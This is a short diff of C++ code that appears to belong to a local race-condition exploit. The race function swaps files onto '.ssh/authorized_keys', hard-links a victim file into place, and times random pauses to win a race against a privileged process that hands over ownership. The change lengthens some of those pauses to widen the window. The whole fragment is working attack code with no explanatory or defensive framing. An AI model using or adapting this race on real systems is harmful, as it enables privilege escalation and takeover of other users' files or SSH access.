@@ -37,13 +37,13 @@ void attempt(int /*result*/) {}
 
 void race(const char* victim, unsigned& seed) {
     constexpr const char* key = ".ssh/authorized_keys";
-    const auto pause = [&seed] {
-        for (volatile unsigned i = static_cast<unsigned>(rand_r(&seed)) % 3000; i > 0;)
+    const auto pause = [&seed](unsigned most = 3000) {
+        for (volatile unsigned i = static_cast<unsigned>(rand_r(&seed)) % most; i > 0;)
             i = i - 1;
     };
     const auto stash = "stash/" + std::to_string(rand_r(&seed) % stashed);
     attempt(rename(stash.c_str(), key)); // a file of root's that may be given away
-    pause();
+    pause(100'000);                      // some of them long enough for a whole round
     unlink(key);
     attempt(link(victim, key));
     pause();
